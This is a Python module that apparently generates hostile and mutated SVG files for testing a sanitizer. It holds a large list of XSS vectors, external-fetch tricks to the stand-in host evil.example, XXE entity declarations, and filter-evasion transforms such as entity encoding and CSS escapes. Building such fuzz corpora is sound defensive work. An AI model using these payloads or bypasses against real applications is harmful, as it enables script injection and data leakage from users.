"""Drawings that try to run a script or to ask another host for something, in endless variations.

What each of them does when it succeeds: it writes RAN to the console, or asks for something from evil.example.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator

EVIL = "http://evil.example"
RUN = "console.log('RAN')"
_SVG, _XLINK, _XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.w3.org/1999/xhtml"
_INNER = base64.b64encode(f'<svg xmlns="{_SVG}"><script>{RUN}</script></svg>'.encode()).decode()
_PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

# Elements that stand anywhere in a drawing.
ELEMENTS = (
    f"<script>{RUN}</script>", f"<script type='text/ecmascript'><![CDATA[{RUN}]]></script>",
    f'<script href="data:text/javascript,{RUN}"/>', f'<script xlink:href="{EVIL}/a.js"/>',
    f'<h:script xmlns:h="{_XHTML}">{RUN}</h:script>', f'<script xmlns="{_XHTML}">{RUN}</script>',
    f'<s:script xmlns:s="{_SVG}">{RUN}</s:script>', f"<g><g><defs><script>{RUN}</script></defs></g></g>",
    f'<foreignObject width="9" height="9"><body xmlns="{_XHTML}"><script>{RUN}</script></body></foreignObject>',
    f'<foreignObject width="9" height="9"><iframe xmlns="{_XHTML}" srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"/>'
    "</foreignObject>",
    f'<foreignObject width="9" height="9"><img xmlns="{_XHTML}" src="x" onerror="{RUN}"/></foreignObject>',
    f'<iframe xmlns="{_XHTML}" src="javascript:{RUN}"/>', f'<iframe xmlns="{_XHTML}" src="{EVIL}/frame"/>',
    f'<img xmlns="{_XHTML}" src="{EVIL}/img"/>', f'<img xmlns="{_XHTML}" src="x" onerror="{RUN}"/>',
    f'<x:img xmlns:x="{_XHTML}" src="x" onerror="{RUN}"/>', f'<video xmlns="{_XHTML}" src="{EVIL}/v" autoplay=""/>',
    f'<video xmlns="{_XHTML}" poster="{EVIL}/poster"/>', f'<audio xmlns="{_XHTML}" src="{EVIL}/a" autoplay=""/>',
    f'<embed xmlns="{_XHTML}" src="data:text/html;base64,{_PAGE}"/>',
    f'<object xmlns="{_XHTML}" data="data:text/html;base64,{_PAGE}"/>',
    f'<link xmlns="{_XHTML}" rel="stylesheet" href="{EVIL}/l.css"/>',
    f'<meta xmlns="{_XHTML}" http-equiv="refresh" content="0;url={EVIL}/meta"/>',
    f'<base xmlns="{_XHTML}" href="{EVIL}/"/>', f'<style xmlns="{_XHTML}">*{{background:url({EVIL}/h)}}</style>',
    f'<image width="9" height="9" href="{EVIL}/image"/>', f'<image width="9" height="9" xlink:href="{EVIL}/image"/>',
    '<image width="9" height="9" href="//evil.example/image"/>', '<image width="9" height="9" href="/other.svg"/>',
    f'<image width="9" height="9" href="data:image/svg+xml;base64,{_INNER}"/>',
    f'<image width="9" height="9" href="data:text/html;base64,{_PAGE}"/>',
    f'<use href="{EVIL}/use.svg#a"/>', f'<use xlink:href="data:image/svg+xml;base64,{_INNER}#a"/>',
    f'<feImage href="{EVIL}/fe"/>',
    f'<filter id="f"><feImage href="{EVIL}/fe" result="r"/></filter><rect width="9" height="9" filter="url(#f)"/>',
    f'<a href="javascript:{RUN}"><rect width="99" height="99"/></a>',
    f'<a xlink:href=" java&#10;script:{RUN}"><rect width="99" height="99"/></a>',
    f'<a><set attributeName="href" to="javascript:{RUN}"/><rect width="99" height="99"/></a>',
    f'<a><animate attributeName="xlink:href" values="javascript:{RUN}" dur="9s"/><rect width="99" height="99"/></a>',
    f'<a id="q"><rect width="99" height="99"/></a><set href="#q" attributeName="href" to="javascript:{RUN}"/>',
    f'<image width="9" height="9" href="#"><set attributeName="href" to="{EVIL}/set"/></image>',
    f'<image width="9" height="9"><animate attributeName="href" values="{EVIL}/an;{EVIL}/an2" dur="1s"/></image>',
    f'<rect width="9" height="9"><set attributeName="onmouseover" to="{RUN}"/></rect>',
    f'<rect width="9" height="9"><set attributeName="style" to="fill:url({EVIL}/st)"/></rect>',
    f'<rect width="9" height="9"><animate attributeName="mask" values="url({EVIL}/m#a)" dur="9s"/></rect>',
    f'<animate onbegin="{RUN}" attributeName="x" dur="1s"/>', f'<set attributeName="x" onbegin="{RUN}" to="1"/>',
    f'<handler xmlns="http://www.w3.org/2000/svg" type="text/ecmascript">{RUN}</handler>',
    f'<style>@import "{EVIL}/i.css";</style>', f"<style>@import url({EVIL}/i.css);</style>",
    f"<style>@\\69mport '{EVIL}/e.css';</style>", f"<style>*{{mask-image:u\\72l({EVIL}/u)}}</style>",
    f"<style>rect{{mask:url({EVIL}/mask.svg#a)}}</style>", f"<style>*{{background:url('{EVIL}/bg')}}</style>",
    f"<style>*{{background:image-set('{EVIL}/is' 1x)}}</style>", f"<style>*{{cursor:url({EVIL}/c),auto}}</style>",
    f"<style>*{{background:-webkit-image-set(url({EVIL}/is) 1x)}}</style>",
    f"<style>@font-face{{font-family:e;src:url({EVIL}/f)}} text{{font-family:e}}</style><text y='9'>x</text>",
    f"<style>*{{--a:url({EVIL}/v);background:var(--a)}}</style>", f"<style>svg{{list-style:url({EVIL}/ls)}}</style>",
    f"<style>*{{filter:url({EVIL}/flt.svg#a)}}</style>", f"<style>*::before{{content:url({EVIL}/co)}}</style>",
    f"<style>@media all{{rect{{fill:url({EVIL}/md#a)}}}}</style>", f"<style>/**/@import/**/'{EVIL}/cm'</style>",
    f"<style>@namespace url({EVIL}/ns);*{{shape-outside:url({EVIL}/so)}}</style>",
    f"<style>*{{background:src('{EVIL}/src')}} *{{clip-path:url({EVIL}/cp#a)}}</style>",
    f"<style>*{{offset-path:url({EVIL}/op#a);border-image:url({EVIL}/bi)}}</style>",
    f"<style>*{{background:cross-fade(url({EVIL}/cf),url({EVIL}/cg),50%)}}</style>",
    f"<style><![CDATA[*{{background:url({EVIL}/cdata)}}]]></style>",
    f"<style type='text/css'>@import '{EVIL}/t'</style>",
    f'<rect width="9" height="9" style="fill:url({EVIL}/s#a)"/>', f'<rect style="background:u\\72 l({EVIL}/q)"/>',
    f'<rect width="9" height="9" style="mask-image:url(&quot;{EVIL}/z&quot;)"/>',
    f'<rect width="9" height="9" fill="url({EVIL}/p#a)"/>', f'<rect width="9" height="9" mask="url({EVIL}/k#a)"/>',
    f'<rect width="9" height="9" filter="url({EVIL}/r#a)"/>',
    f'<rect width="9" height="9" clip-path="url({EVIL}/j#a)"/>',
    f'<path d="M0 0L9 9" marker-end="url({EVIL}/w#a)"/>', f'<text y="9" cursor="url({EVIL}/cur)">x</text>',
    f'<linearGradient id="g" href="{EVIL}/lg#a"/><rect width="9" height="9" fill="url(#g)"/>',
    f'<pattern id="p" xlink:href="{EVIL}/pt#a"/><rect width="9" height="9" fill="url(#p)"/>',
    f'<text><textPath href="{EVIL}/tp#a">x</textPath></text>',
    f'<animateMotion><mpath href="{EVIL}/mp#a"/></animateMotion>',
    f'<color-profile href="{EVIL}/icc"/>', f'<font-face><font-face-src><font-face-uri xlink:href="{EVIL}/ff"/>'
    "</font-face-src></font-face>",
    f'<switch><foreignObject><script>{RUN}</script></foreignObject><g/></switch>',
    f'<metadata><h:script xmlns:h="{_XHTML}">{RUN}</h:script></metadata>', f'<title><script>{RUN}</script></title>',
    f'<desc><img xmlns="{_XHTML}" src="{EVIL}/desc"/></desc>', "<listener event='load' handler='#h'/>",
    f'<svg onload="{RUN}" width="9" height="9"/>', f'<discard begin="0s" onend="{RUN}"/>',
    f'<template xmlns="{_XHTML}"><script>{RUN}</script></template>', f'<portal xmlns="{_XHTML}" src="{EVIL}/portal"/>',
    f'<input xmlns="{_XHTML}" autofocus="" onfocus="{RUN}"/>', f'<details xmlns="{_XHTML}" open="" ontoggle="{RUN}"/>',
)  # fmt: skip
# Attributes of the drawing's own element.
ATTRIBUTES = (
    f'onload="{RUN}"', f'ONLOAD="{RUN}"', f'onLoad="{RUN}"', f'onbegin="{RUN}"', f'onclick="{RUN}"',
    f'onfocusin="{RUN}"',
    f'xml:base="{EVIL}/"', f'style="background:url({EVIL}/root)"', f'xmlns:on="{_SVG}" on:load="{RUN}"',
    'xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#h"',
)  # fmt: skip
# What stands before the drawing.
HEADS = (
    f'<?xml-stylesheet href="{EVIL}/pi.css"?>', f'<?xml-stylesheet type="text/xsl" href="{EVIL}/pi.xsl"?>',
    f'<!DOCTYPE svg [<!ENTITY a "&lt;script&gt;{RUN}&lt;/script&gt;">]>',
    f'<!DOCTYPE svg SYSTEM "{EVIL}/a.dtd">', f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}/x">]>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>',
    f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{EVIL}/p"> %p;]>', '<?xml version="1.0" encoding="UTF-7"?>',
    '<?xml version="1.1"?>', '<?xml version="1.0" encoding="utf-8"?>', "<!-- <svg -->", "",
)  # fmt: skip
_HARMLESS = (
    '<rect x="1" y="1" width="50" height="50" fill="#c00"/>', '<g transform="rotate(9)"><circle r="9" fill="red"/></g>',
    '<text y="20">春茶</text>', '<defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs>',
    '<rect width="9" height="9" style="fill:url(#a);stroke:#000"/>',
    "<style>.a{fill:#c00} @media all{.b{r:9px}}</style>",
    '<use href="#b"/>', '<path id="b" class="a" d="M0 0L9 9z"/>', "<title>茶</title>",
    '<rect width="5" height="5"><animate attributeName="x" values="0;9;0" dur="2s" repeatCount="2"/></rect>',
)  # fmt: skip


def _letters_as_numbers(text: str, chance: random.Random) -> str:
    """Write letters of attributes and of texts as numbers."""

    def written(letter: str) -> str:
        return f"&#{ord(letter)};" if letter.isalpha() and chance.random() < 0.3 else letter

    found = re.split(r"((?<==\")[^\"&]*|(?<=>)[^<&]+)", text)
    return "".join("".join(map(written, each)) if at % 2 else each for at, each in enumerate(found))


def _css_escaped(text: str, chance: random.Random) -> str:
    """Write letters of words that styles are told by as escapes."""

    def escaped(found: re.Match[str]) -> str:
        return "".join(f"\\{ord(each):x} " if each.isalpha() and chance.random() < 0.4 else each for each in found[0])

    return re.sub(r"import|url|image-set|font-face|background|mask", escaped, text)


def _other_letters(text: str, chance: random.Random) -> str:
    return re.sub(
        r"(?<=[<\s])[a-zA-Z]+", lambda found: found[0].swapcase() if chance.random() < 0.3 else found[0], text
    )


def _blanks(text: str, chance: random.Random) -> str:
    return re.sub(r"(?<==\")", lambda _: chance.choice(["", " ", "\n", "\t", "&#9;", "&#13;", "&#1;", "\u00a0"]), text)


def _prefixed(text: str, chance: random.Random) -> str:
    """Give the drawing's namespace a prefix."""
    if "xmlns=" not in text or chance.random() < 0.5:
        return text
    text = re.sub(r"<(/?)([a-zA-Z]+)(?=[\s/>])", r"<\1z:\2", text)
    return text.replace(f'xmlns="{_SVG}"', f'xmlns:z="{_SVG}"', 1)


def _spoilt(text: str, chance: random.Random) -> str:
    """Turn, drop or double single characters."""
    found = list(text)
    for _ in range(chance.randint(1, 4)):
        at = chance.randrange(len(found))
        found[at] = chance.choice(
            ["", found[at] * 2, chance.choice("<>\"'&;/=\0\x0b "), chr(chance.randrange(32, 127))]
        )
    return "".join(found)


def _as_it_is(text: str, _: random.Random) -> str:
    return text


_CHANGES: tuple[Callable[[str, random.Random], str], ...] = (
    _letters_as_numbers, _css_escaped, _blanks, _prefixed, _as_it_is, _as_it_is, _other_letters, _spoilt,
)  # fmt: skip


def plain_attacks() -> Iterator[bytes]:
    """Yield a drawing for each attack, as it is written."""
    for element in ELEMENTS:
        yield drawing([element])
    for attribute in ATTRIBUTES:
        yield drawing([_HARMLESS[0]], attribute)
    for head in HEADS:
        yield drawing([_HARMLESS[0], "&a;" if "ENTITY a" in head else "&x;" if "ENTITY x" in head else ""], head=head)


def mutated(number: int, seed: int) -> Iterator[bytes]:
    """Yield so many drawings of several parts each, harmless and hostile ones, written in unusual ways."""
    chance = random.Random(seed)
    for _ in range(number):
        parts = chance.choices(_HARMLESS, k=chance.randint(1, 4))
        if chance.random() < 0.5:
            parts.insert(chance.randrange(len(parts) + 1), chance.choice(ELEMENTS))
        attribute = chance.choice(ATTRIBUTES) if chance.random() < 0.1 else ""
        head = chance.choice(HEADS) if chance.random() < 0.2 else ""
        text = drawing(parts, attribute, head).decode()
        for change in chance.choices(_CHANGES, k=chance.randint(1, 2)):
            text = change(text, chance)
        data = text.encode("utf-8", "replace")
        yield data.decode().encode("utf-16") if chance.random() < 0.02 else data


def drawing(parts: list[str], attribute: str = "", head: str = "") -> bytes:
    root = f'<svg xmlns="{_SVG}" xmlns:xlink="{_XLINK}" viewBox="0 0 99 99" width="99" height="99" {attribute}>'
    return f"{head}{root}{''.join(parts)}</svg>".encode()
